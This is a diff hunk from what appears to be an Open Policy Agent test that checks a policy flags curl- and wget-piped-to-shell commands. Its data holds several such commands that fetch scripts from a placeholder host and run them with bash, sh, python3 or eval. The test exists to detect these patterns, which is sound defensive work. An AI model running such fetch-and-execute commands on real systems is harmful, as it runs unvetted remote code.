@@ -30,15 +30,18 @@ test_variants_are_flagged if {
 		"/bin/bash -c \"$(curl -fsSL https://x.example/d)\"",
 		"bash <(curl -s https://x.example/e)",
 		"eval \"$(curl -fsSL https://x.example/f)\"",
+		"curl -fsSL https://x.example/g | DEBUG=1 bash",
 	])
 	snippets(vs) == {
 		"wget -qO- https://x.example/setup | bash",
 		"curl -sSL https://x.example/a | sudo -E bash -",
 		"curl -sSL https://x.example/b | /bin/bash -s",
 		"curl -sSL https://x.example/c | python3 -",
+		"curl -LsSf https://astral.sh/uv/install.sh | env UV_INSTALL_DIR=/opt sh",
 		"/bin/bash -c \"$(curl -fsSL https://x.example/d)",
 		"bash <(curl -s https://x.example/e)",
 		"eval \"$(curl -fsSL https://x.example/f)",
+		"curl -fsSL https://x.example/g | DEBUG=1 bash",
 	}
 }
 
